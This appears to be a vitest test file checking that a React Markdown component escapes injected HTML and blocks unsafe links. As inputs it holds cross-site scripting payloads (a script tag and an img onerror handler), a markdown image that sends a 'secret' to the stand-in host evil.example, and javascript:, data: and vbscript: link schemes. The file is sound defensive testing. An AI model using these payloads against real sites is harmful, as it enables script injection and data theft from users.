import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} streaming={false} />);

describe("a teammate's words", () => {
  test("never become markup of their own", () => {
    const result = html(
      'Look: <script>alert(1)</script> <img src="https://evil.example/x.png" onerror="alert(1)"> <b>bold</b>',
    );
    expect(result).not.toContain("<script");
    expect(result).not.toContain("<img");
    expect(result).not.toMatch(/<[a-z]+[^>]*onerror/);
  });

  test("load no image, whoever asks for it", () => {
    const result = html("![state](https://evil.example/leak?d=secret)");
    expect(result).not.toContain("<img");
    expect(result).not.toContain("evil.example");
  });

  test.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "//evil.example/x",
    "http://evil.example",
    "vbscript:x",
  ])("do not link to %s", (href) => {
    expect(html(`[click](${href})`)).not.toContain("href=");
  });

  test("link into the app and to https addresses", () => {
    expect(html("[run](/executions/demo.a.b/xyz?step=1&line=2)")).toContain(
      'href="/executions/demo.a.b/xyz?step=1&amp;line=2"',
    );
    expect(html("[docs](https://example.com/a)")).toContain('href="https://example.com/a"');
  });

  test("quote a log as it is", () => {
    expect(html("```text\n12 > <div> & npm ERR!\n```")).toContain("12 &gt; &lt;div&gt; &amp; npm ERR!");
  });
});
